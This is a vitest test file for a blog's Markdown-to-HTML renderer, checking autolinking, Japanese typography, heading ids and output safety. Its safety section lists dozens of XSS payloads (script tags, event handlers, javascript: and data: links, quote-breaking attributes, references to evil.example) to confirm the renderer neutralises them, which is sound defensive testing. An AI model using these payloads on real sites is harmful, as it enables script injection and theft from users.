import { existsSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import fc from 'fast-check'
import MarkdownIt from 'markdown-it'
import cjkFriendly from 'markdown-it-cjk-friendly'
import { describe, expect, it } from 'vitest'
import { markdownParser, type Parser, renderHtml } from '../../src/post/markdown.ts'

const html = (markdown: string) => renderHtml(markdown).trim()
/** The addresses that a text links to. */
const linksIn = (markdown: string) => [...html(markdown).matchAll(/<a href="([^"]*)"/g)].map((match) => match[1])

describe('a web address in running text', () => {
  it.each([
    ['https://example.test/a。次の文', 'https://example.test/a'],
    ['https://example.jp/をご覧ください', 'https://example.jp/'],
    ['「https://example.jp/x」にあります', 'https://example.jp/x'],
    ['（https://example.jp/x）', 'https://example.jp/x'],
    ['【https://example.jp/x】', 'https://example.jp/x'],
    ['詳しくはhttps://example.jp/x/へ', 'https://example.jp/x/'],
    ['https://example.jp、それから', 'https://example.jp'],
    ['https://example.jp！', 'https://example.jp'],
    ['See https://example.com/a_(b), please.', 'https://example.com/a_(b)'],
    ['(https://example.com/a)', 'https://example.com/a'],
    ['https://example.com/?q=1&r=2#s.', 'https://example.com/?q=1&amp;r=2#s'],
    ['**https://example.com/a**', 'https://example.com/a'],
    ['https://example.com/a_b_c and more', 'https://example.com/a_b_c'],
    ['https://ja.example.org/wiki/%E5%8C%BB', 'https://ja.example.org/wiki/%E5%8C%BB'],
    ['http://localhost:8080/x', 'http://localhost:8080/x'],
    ['HTTPS://EXAMPLE.JP/A', 'HTTPS://EXAMPLE.JP/A'],
  ])('%s ends where the address ends', (text, address) => {
    expect(linksIn(text)).toEqual([address])
  })

  it('keeps every character of the text around it', () => {
    expect(html('「https://example.jp/x」です。')).toBe(
      '<p>「<a href="https://example.jp/x" rel="noopener">https://example.jp/x</a>」です。</p>',
    )
  })

  it.each([
    'README.md',
    'gnet.co.jp',
    'www.example.jp',
    'info@example.jp',
    'ftp://example.jp/',
    '//example.jp/',
    'xhttps://example.jp',
    'https://',
    'https://user:secret@example.jp/',
    'https://user@example.jp/',
    '`https://example.jp/`',
  ])('%s is no link by itself', (text) => {
    expect(linksIn(text)).toEqual([])
  })

  it('is linked once where the writer made it a link', () => {
    expect(linksIn('[https://a.example](https://b.example/)')).toEqual(['https://b.example/'])
    expect(linksIn('<https://example.jp/医師>')).toEqual(['https://example.jp/%E5%8C%BB%E5%B8%AB'])
  })
})

describe('links', () => {
  it.each(['/about/', 'other/', '#part', '?page=2', './a.html', 'mailto:info@example.jp', 'https://example.jp/'])(
    'may lead to %s',
    (address) => {
      expect(linksIn(`[text](${address})`)).toEqual([address])
    },
  )

  it('out of the site do not tell the other page where they were opened', () => {
    expect(html('[a](https://example.jp/)')).toContain('rel="noopener"')
    expect(html('[a](//example.jp/)')).toContain('rel="noopener"')
    expect(html('[a](/about/)')).not.toContain('rel=')
  })
})

describe('Japanese typography', () => {
  it('is bold where brackets stand inside of the marks', () => {
    expect(html('**「強調」**が大切です')).toBe('<p><strong>「強調」</strong>が大切です</p>')
    expect(html('これは**重要。**だから')).toBe('<p>これは<strong>重要。</strong>だから</p>')
  })

  it('shows the lines that the writer sees', () => {
    expect(html('転職や開業を\nサポートする')).toBe('<p>転職や開業を<br>\nサポートする</p>')
    expect(html('SNS\nは自由')).toBe('<p>SNS<br>\nは自由</p>')
    expect(html('**強調**\n_次の行_')).toContain('<br>')
  })

  it('joins English lines with a space, as Markdown does', () => {
    expect(html('written\nby an editor')).toBe('<p>written\nby an editor</p>')
  })

  it('has furigana', () => {
    expect(html('<ruby>専攻医<rt>せんこうい</rt></ruby>')).toBe('<p><ruby>専攻医<rt>せんこうい</rt></ruby></p>')
  })
})

describe('headings', () => {
  it('have ids to link to, one each', () => {
    expect(html('## 医師の 転職!\n\n## 医師の 転職\n\n## !?')).toBe(
      '<h2 id="医師の-転職">医師の 転職!</h2>\n<h2 id="医師の-転職-2">医師の 転職</h2>\n<h2 id="section">!?</h2>',
    )
    const ids = [...html('# a-2\n\n# a\n\n# a\n\n# main').matchAll(/id="([^"]+)"/g)].map((match) => match[1])
    expect(new Set([...ids, 'main']).size).toBe(5)
  })

  it('begin below the title of the page', () => {
    expect(html('# 上\n\n## 下\n\n###### 底')).toMatch(/<h2[^>]*>上<\/h2>\n<h3[^>]*>下<\/h3>\n<h6/)
    expect(html('## 上')).toContain('<h2')
  })

  it('do not repeat the title of the page', () => {
    expect(renderHtml('# 夜勤明け！\n\n本文です。', '夜勤明け')).toBe('<p>本文です。</p>\n')
    expect(renderHtml('# 別の題\n\n本文です。', '夜勤明け')).toContain('別の題')
  })

  const post = [
    'こんにちは。',
    '夜勤明けをどう過ごすか',
    '帰ったら、まずカーテンを閉めて、九十分だけ眠ります。\n長く眠ると、夜の睡眠が浅くなるからです。家族にも、その時間は静かにしてもらうよう頼んであります。',
    '午後は外に出る',
    '目が覚めたら日の光を浴びます。\n散歩を三十分するだけで、睡眠のリズムが戻りやすくなります。雨の日は、窓のそばに座っているだけでも違います。',
  ]

  it('without a mark are found where the post has no marked ones', () => {
    expect(html(post.join('\n\n')).match(/<h2/g)).toHaveLength(2)
    expect(html([...post, '## 印のある見出し', '本文。'].join('\n\n')).match(/<h2/g)).toHaveLength(1)
  })

  it('are not made of a lone line, of questions to the reader, or of labels', () => {
    expect(html(post.slice(0, 3).join('\n\n'))).not.toContain('<h')
    expect(html(post.join('\n\n').replace('午後は外に出る', '本当でしょうか?'))).not.toContain('<h')
    expect(html(post.join('\n\n').replace('午後は外に出る', '午後は外に出ます。'))).not.toContain('<h')
    expect(html(post.join('\n\n').replace('午後は外に出る', '- 午後は外に出る'))).not.toContain('<h')
  })
})

describe('everything else', () => {
  it('shows no comments', () => {
    expect(html('前<!-- 内緒 -->後')).toBe('<p>前後</p>')
    expect(html('<!-- a\n\nb -->\n\n本文')).toBe('<p>本文</p>')
    expect(html('導入\n<!--more-->\n続き')).not.toContain('more')
    expect(html('```\n<!-- a -->\n```')).toContain('&lt;!-- a --&gt;')
    expect(html('1 <!-- 2')).toBe('<p>1 &lt;!-- 2</p>')
  })

  it('loads images when they come near, and keeps what they say', () => {
    expect(html('![受付の*様子*](a.png "題")')).toBe(
      '<p><img src="a.png" alt="受付の様子" title="題" loading="lazy" decoding="async"></p>',
    )
  })

  it('leaves out lines of nothing but spaces', () => {
    expect(html('上\n\n\u00a0\n\n\u3000\n\n下')).toBe('<p>上</p>\n<p>下</p>')
  })

  it('keeps words in angle brackets that are no HTML', () => {
    expect(html('医療ビジネス健全化協議会<IBIKEN>')).toBe('<p>医療ビジネス健全化協議会&lt;IBIKEN&gt;</p>')
  })

  it('breaks a line where the writer says so', () => {
    expect(html('a<br>b<BR/>c')).toBe('<p>a<br>\nb<br>\nc</p>')
  })

  it('has no characters that a feed must not have', () => {
    expect(html('a\u0008b\u001b[31mc\u202ed\uffffe\ud800f')).toBe('<p>abcde\ufffdf</p>')
  })

  it('is the same every time, and leaves the parser as it was', () => {
    const before = JSON.stringify(markdownParser().parse('# a\n\nb', {}))
    expect(html('# a\n\nb')).toBe(html('# a\n\nb'))
    expect(JSON.stringify(markdownParser().parse('# a\n\nb', {}))).toBe(before)
  })
})

// ── safety ────────────────────────────────────────────────────────────────────────────────────────────────────────

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "//evil.example/x.css"</style>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=a autofocus onfocus=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<b onclick=alert(1)>x</b>',
  '<ruby onmouseover=alert(1)>x<rt>y</rt></ruby>',
  '<ruby><script>alert(1)</script></ruby>',
  '<br onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</p></div></main><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0001script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x09;javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](\u00a0javascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](a.png)',
  '![x](a.png" onerror="alert(1))',
  '[x](https://example.jp/" onmouseover="alert(1))',
  '[x](https://example.jp/ "t\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<https://example.jp/" onmouseover="alert(1)>',
  'https://example.jp/"onmouseover="alert(1)',
  "https://example.jp/'onmouseover='alert(1)",
  '[x]: javascript:alert(1)\n\n[x]',
  '```"><script>alert(1)</script>\ncode\n```',
  '## <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '`<script>alert(1)</script>`',
  '\\<script>alert(1)\\</script>',
]

const TAGS = new Set(
  (
    'p h2 h3 h4 h5 h6 a em strong s del ins code pre blockquote ul ol li hr br img div table thead tbody tr th td ' +
    'ruby rt rp rb b i u mark small sub sup kbd'
  ).split(' '),
)
const ATTRIBUTES = new Set('href rel src alt title loading decoding id class tabindex start style'.split(' '))

/** What is dangerous in a page, read as a browser would: every tag, every attribute, every address. */
function dangersIn(page: string): string[] {
  const dangers: string[] = []
  for (const [, tag = '', rest = ''] of page.matchAll(/<\/?([a-zA-Z!?][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g)) {
    if (!TAGS.has(tag)) dangers.push(`<${tag}>`)
    for (const [, name = '', value = ''] of rest.matchAll(/([^\s"'=/]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(name)) dangers.push(`${tag} ${name}`)
      if (name === 'style' && !/^text-align:(?:left|right|center)$/.test(value)) dangers.push(`style ${value}`)
      if (/^(?:href|src)$/.test(name) && /^[a-z][a-z0-9+.-]*:/i.test(value) && !/^(?:https?|mailto):/i.test(value)) {
        dangers.push(value)
      }
    }
  }
  const text = page.replace(/<\/?[a-z][a-z0-9]*(?: [a-z]+="[^"<>]*")*>/g, '')
  if (/[<>]/.test(text)) dangers.push(`a bare bracket in ${text}`)
  return dangers
}

describe('an attack', () => {
  it.each(ATTACKS)('%s comes to nothing', (attack) => {
    for (const markdown of [
      attack,
      `本文${attack}本文`,
      `- ${attack}`,
      `> ${attack}`,
      `**${attack}**`,
      `[${attack}](/a)`,
    ]) {
      expect(dangersIn(renderHtml(markdown)), renderHtml(markdown)).toEqual([])
    }
  })

  it('is seen by this test', () => {
    for (const page of ['<script>', '<img onerror="x">', '<a href="javascript:x">', '<b\nonclick="x">', 'a < b']) {
      expect(dangersIn(page), page).not.toEqual([])
    }
  })

  it('does not come about by putting pieces together', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '[',
      ']',
      '(',
      ')',
      '!',
      '\\',
      '&',
      ';',
      ' ',
      '\n',
      '*',
      '_',
    )
    const words = fc.constantFrom(
      '<b>',
      '</b>',
      '<ruby>',
      '<br>',
      '<!--',
      '-->',
      'javascript:',
      'https://a.jp/',
      'onload=',
      'script',
      'あ',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, words, words), { maxLength: 40 }), (parts) => {
        expect(dangersIn(renderHtml(parts.join('')))).toEqual([])
      }),
      { numRuns: 2000, seed: 1 },
    )
  })

  it.each([
    '<b>',
    '<!--',
    '<!--\n\n',
    '<!-- -->x\n',
    'https://a:',
    'https://a.jp/(',
    '[',
    '# a\n',
    '**あ',
    '<b></b>',
    '> ',
  ])('cannot keep gnet busy with %j for ever', (piece) => {
    const start = performance.now()
    renderHtml(piece.repeat(100_000 / piece.length))
    expect(performance.now() - start).toBeLessThan(5_000)
  })
})

const REAL = resolve(import.meta.dirname, '../../../shared/data/posts/sns-kinshi.md')

describe.skipIf(!existsSync(REAL))("the firm's own post", () => {
  it('has its three headings, its lines and no empty paragraphs', () => {
    const body = readFileSync(REAL, 'utf8').replace(/^---\n[\s\S]*?\n---\n/, '')
    const page = renderHtml(body)
    expect([...page.matchAll(/<h2[^>]*>(.*?)<\/h2>/g)].map((match) => match[1])).toEqual([
      '組織と個人どっちが大事か?',
      '下剋上の時代がやってくる!',
      '医師にもパーソナルブランディングが必要です!',
    ])
    expect(page).toContain('これからの時代は、<br>\n今までの既得権が<br>')
    expect(page).toContain('協議会&lt;IBIKEN&gt;医師向け')
    expect(page).not.toMatch(/<p>\s*<\/p>/)
  })
})

describe('text without marks', () => {
  it('ends where it ends by the rule of markdown-it', () => {
    const usual = new MarkdownIt({ html: false }).set({ maxNesting: 20 }).use(cjkFriendly)
    const saidBy = (md: Pick<Parser, 'parseInline'>, text: string) =>
      md.parseInline(text, {}).flatMap(({ children }) => children?.map(({ type, content }) => `${type} ${content}`))
    const marked = [
      '![絵](a.png)',
      '[先](b)',
      '~~前~~',
      '**太**',
      '_斜_',
      '`a`',
      '&amp;',
      '\\*',
      '\n',
      '}',
      '^',
      '#',
      '+',
      '%',
    ]
    const texts = fc.array(fc.constantFrom('あ', '。', 'a', ' ', ...marked)).map((all) => all.join(''))
    fc.assert(
      fc.property(texts, (text) => {
        expect(saidBy(markdownParser(), text)).toEqual(saidBy(usual, text))
      }),
    )
  })
})
